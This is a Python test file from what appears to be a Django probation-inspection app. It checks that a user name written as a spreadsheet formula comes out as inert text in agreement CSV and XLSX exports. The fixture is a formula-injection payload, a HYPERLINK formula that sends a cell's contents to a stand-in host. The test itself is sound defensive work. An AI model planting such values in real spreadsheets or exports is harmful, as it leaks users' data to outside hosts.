"""A user's name that a spreadsheet would run as a formula reaches the agreement CSV and XLSX
as inert text, while the agreement counts stay numbers."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from helpers import job_file, moderate_all, signed_in
from probation_inspection.web.inspections.models import Inspection

pytestmark = pytest.mark.django_db


def test_an_inspector_named_like_a_formula_reaches_the_agreement_exports_as_text(
    inspection: Inspection, team: dict[str, Any], build: Any
) -> None:
    name = '=HYPERLINK("http://x/?"&A2,"Open")'
    team["inspector"].first_name = name
    team["inspector"].save()
    build(inspection, [(team["inspector"], ["yes", "no"])], ("case-supervision",))
    inspection.stage = "moderation"
    inspection.save()
    moderate_all(inspection, team, differ_on=0)
    client = signed_in(team["data"])
    text = job_file(client, client.get(
        reverse("quality:agreement-csv", args=[inspection.pk]))).content.decode()
    groups = [row["group"] for row in csv.DictReader(io.StringIO(text, newline=""))]
    assert "'" + name in groups and name not in groups
    xlsx = job_file(client, client.get(
        reverse("quality:agreement-xlsx", args=[inspection.pk]))).content
    cells = [cell for row in load_workbook(io.BytesIO(xlsx)).active.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert [cell.data_type for cell in cells if cell.value == name] == ["s"]
    # Agreement counts stay numbers in the workbook.
    assert {cell.data_type for cell in cells if cell.column == 3 and cell.row > 1} == {"n"}
